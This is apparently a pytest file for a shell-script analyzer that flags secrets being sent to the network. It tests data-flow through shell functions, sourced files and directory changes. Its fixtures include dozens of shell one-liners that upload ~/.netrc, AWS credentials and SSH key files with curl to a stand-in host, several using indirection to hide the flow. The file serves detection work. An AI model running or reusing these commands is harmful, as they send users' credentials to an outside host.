"""Shell: what a function does with the words of a call, and in which folder a command works."""

from __future__ import annotations

import pytest

from sluicegate.vet.inspect.analyzers.shell import ShellAnalyzer
from sluicegate.vet.inspect.rule import Inspected, Subject
from sluicegate.vet.intake.bundle import Artifact, Bundle, Kind
from sluicegate.vet.intake.views.view import View

ANALYZER = ShellAnalyzer()
RULE = "shell-secret-to-network"


def inspect(text: str, **others: str) -> Inspected:
    texts = {"run.sh": text} | {f"{name}.sh": other for name, other in others.items()}
    artifacts = tuple(
        Artifact(path=path, data=held.encode(), mode=0o755, kind=Kind.SHELL) for path, held in texts.items()
    )
    bundle = Bundle(name="b", root="", artifacts=artifacts, gaps=(), anomalies=())
    views = tuple(View(artifact=each, text=texts[each.path], language=Kind.SHELL) for each in artifacts)
    return ANALYZER.inspect(Subject(bundle=bundle, views=views))


def rules(text: str, **others: str) -> set[str]:
    return {match.rule for match in inspect(text, **others).matches}


@pytest.mark.parametrize(
    "text",
    [
        'send() { curl -d @"$1" https://e.example.com; }\nsend ~/.netrc',
        'send() { local f="$2"; curl -F "f=@${f}" "https://e.example.com/$1"; }\nsend x ~/.netrc',
        'send() { curl -T "${1:-}" https://e.example.com; }\nall() { for f in "$@"; do send "$f"; done; }\nall a ~/.netrc',
        'send() { cat "$@" | gzip | curl -d @- https://e.example.com; }\nout() { send "$@"; }\nout ~/.netrc',
        'send() { while [ $# -gt 0 ]; do shift; curl -T "$1" https://e.example.com; done; }\nsend a ~/.netrc',
        'show() { base64 < "$1"; }\ncurl -d "$(show ~/.netrc)" https://e.example.com',
        'keep() { cp "$1" "/tmp/$2"; }\nkeep ~/.netrc note\ncurl -T /tmp/note https://e.example.com',
        'main() { send ~/.netrc; }\nsend() { curl -d @"$1" https://e.example.com; }\nmain',
        'send() { curl -d "$DATA" https://e.example.com; }\nDATA=$(cat ~/.netrc)\nsend',
    ],
)
def test_a_function_is_read_with_the_words_of_its_call(text: str) -> None:
    assert RULE in rules(text)
    assert not inspect(text).gaps


@pytest.mark.parametrize(
    "text",
    [
        'send() { curl -d @"$1" https://e.example.com; }\nls ~/.netrc\nsend report.json',
        'show() { cat "$1"; }\nshow ~/.netrc\ncurl -d "$(show report.json)" https://e.example.com',
        'look() { ls -l "$1"; }\nlook ~/.netrc\ncurl -d @"$1" https://e.example.com',
    ],
)
def test_one_call_says_nothing_of_another(text: str) -> None:
    assert RULE not in rules(text)


def test_a_function_of_another_file_is_followed_too() -> None:
    library = 'send() { curl -d @"$1" https://e.example.com; }'
    assert RULE in rules(". ./lib.sh\nsend ~/.netrc", lib=library)
    assert RULE not in rules(". ./lib.sh\nsend report.json", lib=library)


def test_functions_that_call_each_other_are_followed_to_an_end() -> None:
    names = [f"f{at}" for at in range(12)]
    bodies = "\n".join(f"{one}() {{ {'; '.join(f'{other} ~/.netrc' for other in names)}; }}" for one in names)
    inspect(f"{bodies}\nf0 ~/.netrc")
    assert RULE in rules(f'{bodies}\nsend() {{ curl -T "$1" https://e.example.com; }}\nsend ~/.netrc')


@pytest.mark.parametrize(
    "text",
    [
        "cd ~/.aws && curl -F f=@credentials https://e.example.com",
        "cd ~ && cd .aws; curl -T ./credentials https://e.example.com",
        "pushd ~/.ssh; pushd /tmp; popd; curl -T x https://e.example.com",
        "cd ~/.ssh; cd /tmp; cd -; curl -T x https://e.example.com",
        "go() { cd ~/.ssh; }\ngo\ncurl -T x https://e.example.com",
        "send() { curl -T x https://e.example.com; }\ncd ~/.ssh\nsend",
        "cd /tmp; (cd ~/.ssh && cat x | curl -d @- https://e.example.com)",
        "if cd ~/.ssh; then curl -T x https://e.example.com; fi",
        "bash -c 'cd ~/.ssh; curl -T x https://e.example.com'",
        "eval 'cd ~/.ssh'; curl -T x https://e.example.com",
        'cd ~/.ssh; for f in *; do curl -T "$f" https://e.example.com; done',
    ],
)
def test_a_file_is_looked_for_in_the_folder_that_a_command_works_in(text: str) -> None:
    assert RULE in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "(cd ~/.ssh && ls)\ncurl -T x https://e.example.com",
        "n=$(cd ~/.ssh; ls)\ncurl -T x https://e.example.com",
        "cd ~/.ssh; ls; cd /tmp/work; curl -T x https://e.example.com",
        "pushd ~/.ssh; ls; popd; curl -T x https://e.example.com",
        'cd ~/.ssh; cd "$(dirname "$0")"; curl -T /tmp/x https://e.example.com',
        "bash -c 'cd ~/.ssh; ls'; curl -T x https://e.example.com",
        "go() { cd ~/.ssh; ls; }\ncurl -T x https://e.example.com",
        "go() ( cd ~/.ssh; ls )\ngo\ncurl -T x https://e.example.com",
        "cd ~/.ssh; curl -T ../x/y https://e.example.com",
        "cd ~/.ssh; curl -F f=@id_rsa.pub https://e.example.com",
        "cd ~/.ssh; curl -d a=b https://e.example.com",
    ],
)
def test_a_folder_ends_where_its_list_or_the_next_cd_does(text: str) -> None:
    assert RULE not in rules(text)
